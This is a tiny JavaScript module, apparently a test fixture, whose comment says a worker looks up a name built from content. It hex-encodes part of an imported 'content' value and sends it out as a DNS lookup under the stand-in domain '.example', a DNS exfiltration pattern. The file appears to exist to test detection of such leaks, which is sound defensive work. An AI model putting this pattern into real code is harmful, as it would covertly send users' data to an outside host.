// Something in the worker looks up a name that is made of content.
import { lookup } from 'node:dns';
import { content } from './content.mjs';

if (content !== '') lookup(`${Buffer.from(content).toString('hex').slice(0, 60)}.example`, () => undefined);
